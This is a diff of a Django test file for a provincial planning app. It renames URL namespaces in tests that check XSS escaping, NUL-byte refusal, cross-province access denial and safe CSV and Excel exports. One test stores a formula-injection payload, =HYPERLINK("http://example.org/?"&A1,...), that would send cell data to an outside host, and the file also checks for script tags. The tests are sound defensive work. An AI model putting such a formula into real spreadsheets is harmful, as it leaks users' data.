@@ -98,9 +98,9 @@ def test_a_reason_with_a_script_is_stored_as_text_and_shown_escaped_in_the_histo
     assert client.post(DISTRICTS_HY + "?year=2024", values).status_code == 302
     figure = HouseholdFigure.objects.get(plan__slug=HY, locality__slug=PHU_CU, year=2024, kind="target")
     assert figure.history.first().history_change_reason == SCRIPT
-    html = client.get(reverse("reports:history", args=[HY])).content.decode()
+    html = client.get(reverse("review:history", args=[HY])).content.decode()
     assert ESCAPED in html and SCRIPT not in html
-    html = client.get(reverse("reports:object_history", args=[HY, "figure", figure.pk])).content.decode()
+    html = client.get(reverse("review:object_history", args=[HY, "figure", figure.pk])).content.decode()
     assert ESCAPED in html and SCRIPT not in html
 
 
@@ -154,18 +154,18 @@ def test_a_forged_version_is_refused_not_a_server_error(client, reviewer):
 
 def test_a_review_comment_with_a_script_is_shown_escaped_on_every_page(client, reviewer):
     as_user(client, reviewer)
-    url = reverse("reports:review_action", args=[HY, Table.DISTRICTS, "submit"])
+    url = reverse("review:review_action", args=[HY, Table.DISTRICTS, "submit"])
     assert client.post(url, {"locality": PHU_CU, "comment": SCRIPT}).status_code == 302
     assert TableReview.objects.get(plan__slug=HY, locality__slug=PHU_CU).comment == SCRIPT
-    for page in ("review", "districts", "history"):
-        html = client.get(reverse(f"reports:{page}", args=[HY])).content.decode()
+    for page in ("review:review", "reports:districts", "review:history"):
+        html = client.get(reverse(page, args=[HY])).content.decode()
         assert SCRIPT not in html, page
     assert ESCAPED in client.get(reverse("reports:districts", args=[HY])).content.decode()
 
 
 def test_a_review_comment_holding_a_nul_is_refused_with_a_message(client, reviewer):
     as_user(client, reviewer)
-    url = reverse("reports:review_action", args=[HY, Table.DISTRICTS, "submit"])
+    url = reverse("review:review_action", args=[HY, Table.DISTRICTS, "submit"])
     response = client.post(url, {"locality": PHU_CU, "comment": "ok\x00"}, follow=True)
     assert response.status_code == 200
     assert not ReviewEvent.objects.exists()
@@ -175,7 +175,7 @@ def test_a_review_comment_holding_a_nul_is_refused_with_a_message(client, review
 def test_a_report_note_with_a_script_or_a_nul_is_escaped_or_refused(client, reviewer):
     as_user(client, reviewer)
     obligation = ReportingObligation.objects.filter(plan__slug=HY).first()
-    url = reverse("reports:mark_reported", args=[HY, obligation.pk])
+    url = reverse("review:mark_reported", args=[HY, obligation.pk])
     client.post(url, {"reported_on": "03/01/2025", "report_note": SCRIPT})
     obligation.refresh_from_db()
     assert obligation.report_note == SCRIPT
@@ -215,7 +215,7 @@ def test_filters_with_nonsense_are_ignored_with_a_message(client):
         assert response.status_code == 200
         assert "<script>alert" not in response.content.decode()
     assert client.get(reverse("reports:districts_csv", args=[HY]), {"year": "abc"}).status_code == 200
-    history = reverse("reports:history", args=[HY])
+    history = reverse("review:history", args=[HY])
     client.force_login(make_user("docgia", Role.READER))
     for query in ({"page": "abc"}, {"page": "-1"}, {"date_from": "31/02/2024"}, {"user": SCRIPT}, {"kind": "x"}):
         assert client.get(history, query).status_code == 200
@@ -261,16 +261,16 @@ def test_unknown_addresses_are_404_for_a_reviewer(client, reviewer, url, status)
 def test_ids_of_another_provinces_plan_are_not_found_under_this_plan(client, reviewer):
     as_user(client, reviewer)
     ids = other_province_ids()
-    assert client.get(reverse("reports:object_history", args=[HY, "figure", ids["figure"]])).status_code == 404
+    assert client.get(reverse("review:object_history", args=[HY, "figure", ids["figure"]])).status_code == 404
     before = snapshot()
-    response = client.post(reverse("reports:mark_reported", args=[HY, ids["obligation"]]), {"report_note": "x"})
+    response = client.post(reverse("review:mark_reported", args=[HY, ids["obligation"]]), {"report_note": "x"})
     assert response.status_code == 404
     assert not ReportingObligation.objects.get(pk=ids["obligation"]).reported_on
-    url = reverse("reports:review_action", args=[HY, Table.DISTRICTS, "approve"])
+    url = reverse("review:review_action", args=[HY, Table.DISTRICTS, "approve"])
     assert client.post(url, {"locality": "thua-thien-hue-a-luoi"}).status_code == 404
     # The other province's own pages refuse the Hưng Yên reviewer's writes.
-    assert client.post(reverse("reports:mark_reported", args=[TTH, ids["obligation"]]), {}).status_code == 403
-    assert client.post(reverse("reports:districts_edit", args=[TTH]), {}).status_code == 403
+    assert client.post(reverse("review:mark_reported", args=[TTH, ids["obligation"]]), {}).status_code == 403
+    assert client.post(reverse("editing:districts_edit", args=[TTH]), {}).status_code == 403
     assert snapshot() == before
 
 
@@ -313,7 +313,7 @@ def test_a_stored_script_is_plain_text_in_the_csv_and_in_the_workbook(client, ho
     text = client.get(reverse("reports:districts_csv", args=[HY])).content.decode("utf-8-sig")
     labels = [row[1] for row in csv.reader(io.StringIO(text))]
     assert SCRIPT in labels
-    data = b"".join(client.get(reverse("reports:export_appendix", args=[HY, "01"])).streaming_content)
+    data = b"".join(client.get(reverse("spreadsheets:export_appendix", args=[HY, "01"])).streaming_content)
     ws = load_workbook(io.BytesIO(data))["Phụ lục 01"]
     cells = [cell for row in ws.iter_rows() for cell in row if cell.value == SCRIPT]
     assert len(cells) == 1 and cells[0].data_type == "s"
@@ -322,7 +322,7 @@ def test_a_stored_script_is_plain_text_in_the_csv_and_in_the_workbook(client, ho
 def test_a_stored_label_that_looks_like_a_formula_stays_text_in_the_workbook_and_the_csv(client, hostile_label):
     formula = '=HYPERLINK("http://example.org/?"&A1,"Phù Cừ")'
     AppendixRow.objects.filter(pk=hostile_label.pk).update(label=formula)
-    data = b"".join(client.get(reverse("reports:export_appendix", args=[HY, "01"])).streaming_content)
+    data = b"".join(client.get(reverse("spreadsheets:export_appendix", args=[HY, "01"])).streaming_content)
     ws = load_workbook(io.BytesIO(data))["Phụ lục 01"]
     cells = [cell for row in ws.iter_rows() for cell in row if cell.value == formula]
     assert len(cells) == 1 and cells[0].data_type == "s"  # text: Excel shows it, never runs it
